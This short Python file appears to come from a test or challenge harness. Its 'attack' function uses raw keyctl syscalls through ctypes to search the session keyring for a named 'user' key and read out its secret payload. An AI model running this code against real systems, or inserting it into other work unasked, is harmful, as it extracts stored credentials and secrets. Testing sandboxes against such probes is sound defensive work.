import ctypes


def attack(scene, oracle):
    libc = ctypes.CDLL(None, use_errno=True)
    session = ctypes.c_int(-3)
    key = libc.syscall(250, 10, session, b"user", scene["key"].encode(), 0)  # keyctl, search
    if key < 0:
        raise OSError(ctypes.get_errno(), "keyctl")
    room = ctypes.create_string_buffer(100)
    libc.syscall(250, 11, key, room, 100)
    return room.raw
